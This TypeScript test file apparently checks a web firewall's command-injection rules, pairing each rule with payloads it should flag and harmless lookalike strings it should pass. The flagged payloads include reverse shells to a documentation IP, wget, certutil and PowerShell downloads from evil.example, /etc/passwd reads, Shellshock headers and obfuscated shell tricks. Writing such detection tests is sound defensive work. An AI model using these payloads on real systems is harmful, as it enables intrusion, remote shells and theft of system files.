import { type Cases, agent, form, get, header, json, query } from '../../testing.ts';

export const commandInjectionCases: Readonly<Record<string, Cases>> = {
  '100052': {
    hits: [
      query('127.0.0.1; cat /etc/passwd'),
      query('1|id'),
      query('`whoami`'),
      query('$(uname -a)'),
      get('/?ip=1.1.1.1%0Aping%20-c%205%20evil.example'),
      query('a && wget http://evil.example/x'),
      header('cookie', 'x=1%3B+curl+http://evil.example'),
    ],
    misses: [
      query('name|id'),
      query('cats & dogs'),
      query('id card; passport'),
      query('AT&T; more about it'),
      query('ls and gt'),
    ],
  },
  '100052B': {
    hits: [
      form({ host: '127.0.0.1; id' }),
      json({ host: 'example.com|whoami' }),
      form({ ip: '`sleep 5`' }),
      form({ ip: '8.8.8.8 && cat /etc/passwd' }),
    ],
    misses: [
      json({ comment: 'Run this to install it:\n\n```sh\ncurl -fsSL https://get.example.com | bash\n```' }),
      form({ text: 'id; passport; driving licence' }),
    ],
  },
  '100053': {
    hits: [
      query('cat${IFS}/etc/passwd'),
      form('{cat,/etc/passwd}'),
      query("c'a't /etc/passwd"),
      query('/???/??t /???/p??s??'),
    ],
    misses: [query('{cat, dog}'), json({ a: ['cat', 'dog'] }), query('what???/really? yes')],
  },
  '100054': {
    hits: [
      form('bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'),
      agent('x; nc -e /bin/sh 203.0.113.5 99'),
      query('rm /tmp/f;mkfifo /tmp/f;cat /tmp/f'),
    ],
    misses: [query('dev tcp tuning'), form('nc -zv example.com 443'), query('bash -i')],
  },
  '100054B': {
    hits: [
      query('wget http://evil.example/x -O /tmp/x; chmod +x /tmp/x'),
      query('cd /tmp; ls'),
      query('echo aWQ= | base64 -d | sh'),
    ],
    misses: [query('wget vs curl'), query('the fetch; a python story')],
  },
  '100054C': {
    hits: [
      get('/shell?cd+/tmp;rm+-rf+*;wget+203.0.113.7/x;sh+x'),
      form('`cd /tmp; wget http://203.0.113.7/mips; chmod 777 mips`'),
    ],
    misses: [
      form('cd /tmp and look at it'),
      form('wget https://example.com/file.tar.gz; tar xf file.tar.gz'),
    ],
  },
  '100055': {
    hits: [query('x & dir c:\\'), query('1|net user'), query('a&ipconfig /all'), query('|cmd.exe /c ver')],
    misses: [query('net user growth'), query('R&D; type of work'), query('dir en grey')],
  },
  '100055B': {
    hits: [
      form('certutil -urlcache -f http://evil.example/a.exe a.exe'),
      query('cmd.exe /c whoami'),
      json({ x: 'mshta http://evil.example/a.hta' }),
    ],
    misses: [form('certutil is a tool'), query('cmd /help')],
  },
  '100056': {
    hits: [
      query('powershell -nop -w hidden -enc SQBFAFgA'),
      query("IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')"),
      json({ c: 'pwsh -EncodedCommand SQBFAFgA' }),
    ],
    misses: [
      query('powershell tutorial -video'),
      form('Use PowerShell: Get-ChildItem -Path C:\\temp -Recurse'),
    ],
  },
  '100030': {
    hits: [
      agent('() { :; }; /bin/bash -c "id"'),
      header('referer', '() { ignored;};echo x'),
      header('cookie', '() {:;}; ping'),
    ],
    misses: [agent('Mozilla/5.0 (X11) { test'), query('function () { return 1; }')],
  },
};
